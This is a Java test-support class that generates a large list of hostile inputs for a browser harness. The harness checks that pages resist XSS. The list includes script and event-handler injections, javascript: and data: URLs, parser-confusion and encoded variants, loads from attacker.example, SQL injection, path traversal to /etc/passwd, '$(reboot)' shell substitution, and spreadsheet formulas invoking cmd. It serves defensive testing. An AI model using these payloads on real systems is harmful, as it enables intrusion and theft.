package thammati.support;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Hostile texts by pattern: each way in which markup, an address or an odd string can take hold of
 * a page, crossed with the ways to write it. One that took hold would open a dialog or ask another
 * address, which {@link Chromium} keeps as a fault.
 */
public final class HostileKinds {
  private static final String RUN = "alert(1)";
  private static final String OUTSIDE = "//attacker.example/x";

  private static final List<String> TAGS =
      List.of(
          "img src=x",
          "svg",
          "body",
          "input autofocus",
          "video src=x",
          "audio src=x",
          "details open",
          "marquee",
          "iframe src=x",
          "object data=x",
          "embed src=x",
          "button autofocus",
          "select autofocus",
          "textarea autofocus",
          "form",
          "math",
          "a href=x",
          "div tabindex=0",
          "x-own contenteditable",
          "style",
          "link rel=stylesheet href=x",
          "dialog open");
  private static final List<String> EVENTS =
      List.of(
          "onerror",
          "onload",
          "onfocus",
          "onmouseover",
          "ontoggle",
          "onanimationstart",
          "onbeforetoggle",
          "onpointerenter",
          "onscrollend",
          "oncontentvisibilityautostatechange");

  /** How an attribute is written: before its name, around its value. */
  private static final List<String> WRITTEN =
      List.of(
          " %s=%s", "/%s=%s", "\t%s='%s'", " %s=\"%s\"", "\f%s=`%s`", " %s = %s ", "/x/%s=%s//");

  private static final List<String> SCRIPTS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<script >alert(1)</script >",
          "<script/x>alert(1)</script>",
          "<script src=//attacker.example/x.js></script>",
          "<script src=data:,alert(1)></script>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script>alert(1)",
          "<<script>alert(1)//<</script>",
          "<script>alert`1`</script>",
          "<script type=module>import '//attacker.example/x.js'</script>",
          "<script type=text/template>x</script><script>alert(1)</script>",
          "<svg><script>alert&#40;1&#41;</script></svg>",
          "<script\u00a0>alert(1)</script>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<xmp><script>alert(1)</script></xmp>",
          "<plaintext><script>alert(1)</script>",
          "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
          "<?xml version=\"1.0\"?><x"
              + " xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></x>",
          "<!DOCTYPE x [<!ENTITY y SYSTEM \"//attacker.example/y\">]>&y;");

  private static final List<String> CLOSERS =
      List.of(
          "\">",
          "'>",
          "`>",
          "</title>",
          "</textarea>",
          "</style>",
          "</script>",
          "</noscript>",
          "</template>",
          "</select>",
          "-->",
          "--!>",
          "]]>",
          "?>",
          "</svg>",
          "</math>");
  private static final List<String> BODIES =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<iframe src=javascript:alert(1)>");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          " javascript:alert(1)",
          "&#106;avascript:alert(1)",
          "&#x6A;avascript&colon;alert(1)",
          "javascript&#58;alert(1)",
          "javascript://%0aalert(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "blob:x",
          "//attacker.example/x",
          "\\\\attacker.example\\x",
          "https:attacker.example/x",
          "https://thaigov.go.th@attacker.example/x");
  private static final List<String> AROUND =
      List.of(
          "%s",
          "<a href=\"%s\">x</a>",
          "<a href='%s' target=_blank>x</a>",
          "[x](%s)",
          "![x](%s)",
          "[x]: %s",
          "<%s>",
          "<iframe src=\"%s\"></iframe>",
          "<form action=\"%s\"><input type=submit></form>",
          "<object data=\"%s\"></object>",
          "<meta http-equiv=refresh content=\"0;url=%s\">",
          "<base href=\"%s\">",
          "<link rel=stylesheet href=\"%s\">",
          "<img src=\"%s\">",
          "<style>@import '%s';</style>",
          "<p style=\"background:url(%s)\">",
          "<svg><use href=\"%s#x\"/></svg>",
          "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>",
          "<video poster=\"%s\">",
          "<button formaction=\"%s\">x</button>");

  /** Where parsers take one thing for another, and names that would hide the page's own. */
  private static final List<String> CONFUSED =
      List.of(
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
              + " onerror=alert(1)&gt;\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
          "<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>",
          "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
          "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x"
              + " onerror=alert(1)>\">",
          "<a id=live name=tools><a id=live name=place></a>",
          "<div popover id=places></div>",
          "<form id=composer><input name=action><input name=submit></form>",
          "<img name=getElementById>",
          "<iframe name=document></iframe>",
          "<input id=question name=q value=x>",
          "<slot name=x></slot><x-own is=x></x-own>",
          "<annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
          "<frameset onload=alert(1)><frame src=x></frameset>",
          "<image src=x onerror=alert(1)>",
          "<portal src=//attacker.example/x></portal>",
          "<fencedframe></fencedframe>");

  private static final List<String> ENCODED =
      List.of(
          "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
          "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "\\x3cimg src=x onerror=alert(1)\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02c2img src=x onerror=alert(1)\u02c3",
          "<\u200bimg src=x onerror=alert(1)>", "<im\u00adg src=x onerror=alert(1)>",
          "\u202e<img src=x onerror=alert(1)>\u202c", "\u2066<script>alert(1)</script>\u2069",
          "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "&amp;lt;img src=x onerror=alert(1)&amp;gt;");

  /** Strings that other languages, spreadsheets and terminals would act upon. */
  private static final List<String> ODD =
      List.of(
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "#{alert(1)}",
          "<%= alert(1) %>",
          "{%raw%}{{alert(1)}}",
          "__proto__",
          "constructor",
          "toString",
          "null",
          "undefined",
          "NaN",
          "' OR '1'='1",
          "'; DROP TABLE resolution; --",
          "1/0",
          "../../../../etc/passwd",
          "file:///etc/passwd",
          "$(reboot)",
          "`reboot`",
          "%s%s%s%n",
          "=HYPERLINK(\"//attacker.example\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "\ufeff",
          "\u0e33\u0e33\u0e33",
          "\u0e48\u0e48\u0e48\u0e48\u0e48\u0e48",
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
          "\u200f\u200ex\u2067y",
          "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324");

  private HostileKinds() {}

  /** All kinds, each once, in one order; every one is a single line. */
  public static List<String> all() {
    Set<String> kinds = new LinkedHashSet<>(SCRIPTS);
    int written = 0;
    for (String tag : TAGS) {
      for (String event : EVENTS) {
        String attribute =
            String.format(Locale.ROOT, WRITTEN.get(written++ % WRITTEN.size()), event, RUN);
        kinds.add("<" + tag + attribute + ">");
      }
    }
    for (String closer : CLOSERS) for (String body : BODIES) kinds.add(closer + body);
    for (String around : AROUND) for (String to : ADDRESSES) kinds.add(around.replace("%s", to));
    for (String around : AROUND) kinds.add(around.replace("%s", OUTSIDE));
    kinds.addAll(CONFUSED);
    kinds.addAll(ENCODED);
    kinds.addAll(ODD);
    return List.copyOf(new ArrayList<>(kinds));
  }
}
